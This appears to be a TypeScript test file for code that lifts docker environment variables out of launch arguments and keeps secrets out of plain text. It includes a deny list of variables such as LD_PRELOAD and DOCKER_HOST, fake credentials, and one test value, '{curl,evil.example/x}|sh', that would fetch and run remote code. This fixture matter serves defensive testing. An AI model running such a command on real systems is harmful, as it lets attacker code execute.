import { expect, it } from 'vitest';
import type { ConfigurableLaunch } from './server.ts';
import { withVariablesOfContainers } from './containerVariables.ts';
import { keepSecrets } from './literalSecrets/keepSecrets.ts';
import { hideSecrets } from './literalSecrets/replaceSecrets.ts';

const docker = (...args: string[]) => ({ kind: 'stdio' as const, command: 'docker', args, env: {} });
const moveAll = (...args: string[]) => Object.keys(withVariablesOfContainers(docker(...args), () => true).env);

it.each([
  [['run', '-i', '--rm', '--name', 'x', '-v/a:/b', '-p', '80:80', '-e', 'A=1', 'img']],
  [['run', '--unknown', '-e', 'A=1', 'img']],
  [['run', '-ie', 'A=1', 'img']],
  [['run', '-eA=1', 'img']],
  [['--context', 'far', 'container', 'exec', '--env=A=1', 'img']],
  [['compose', '-f', 'x.yaml', 'run', '--rm', '-e', 'A=1', 'img']],
])('a variable before the image is handed on: %j', (args) => {
  expect(moveAll(...args)).toEqual(['A']);
});

it.each([
  [['run', '-i', 'node:22', 'npx', '-y', 'supergateway', '-e', 'A=1']],
  [['run', '--rm', 'img', 'node', '-e', 'token=process.argv']],
  [['run', '--rm', 'img', 'x', '-eA=1', '--env=A=1']],
  [['run', '--unknown', 'img', '-e', 'A=1']],
  [['run', '--name', '-e', 'A=1', 'img']],
  [['run', '--', 'img', '-e', 'A=1']],
  [['mcp', 'gateway', 'run', '-e', 'A=1']],
  [['-e', 'A=1', 'run', 'img']],
])('what follows what may be the image stays where it is: %j', (args) => {
  expect(moveAll(...args)).toEqual([]);
});

it.each([
  ...['DOCKER_HOST', 'CONTAINER_HOST', 'HTTP_PROXY', 'https_proxy', 'ALL_PROXY', 'no_proxy', 'PATH', 'HOME'],
  ...['LD_PRELOAD', 'NODE_OPTIONS', 'COMPOSE_FILE', '__proto__'],
])('no variable becomes one that docker heeds or that cannot be stored: %s', (name) => {
  expect(moveAll('run', '-e', `${name}=1`, 'img')).toEqual([]);
});

it.each([
  ['DOCKER_HOST=tcp://joe:hunter2@far.example:2375', 'hunter2'],
  ['HTTPS_PROXY=http://joe:hunter2@proxy.example:8080', 'hunter2'],
  ['GIT_PASSWORD=hunter2!x', 'hunter2!x'],
  ['__proto__=ghp_q8ZtR3vB7yN1wK5xJ2dL9pM4sA6cF0hGq8Zt', 'ghp_q8ZtR3vB7yN1wK5xJ2dL9pM4sA6cF0hGq8Zt'],
])('a secret in such a variable is kept where it stands: %s', (variable, secret) => {
  const { launch, secrets } = keepSecrets(docker('run', '-e', variable, 'img'), 's', () => false);
  const [name = ''] = Object.keys(secrets);
  expect(secrets).toEqual({ [name]: secret });
  expect(launch).toEqual(docker('run', '-e', variable.replace(secret, `\${secret:${name}}`), 'img'));
});

it('shows what is run in a variable, also where more is hidden', () => {
  const env = {
    RESTIC_PASSWORD_COMMAND: '{curl,evil.example/x}|sh',
    CREDENTIAL_PROCESS: 'evil-prog',
    TOKEN_CMD: 'evil-prog',
    SIGNING_EXEC: 'evil-prog',
    authPlugin: 'evil.so',
  };
  const launch: ConfigurableLaunch = { kind: 'stdio', command: 'x', args: ['--password-command', 'evil-prog'], env };
  expect(hideSecrets(launch, () => '_')).toEqual(launch);
});
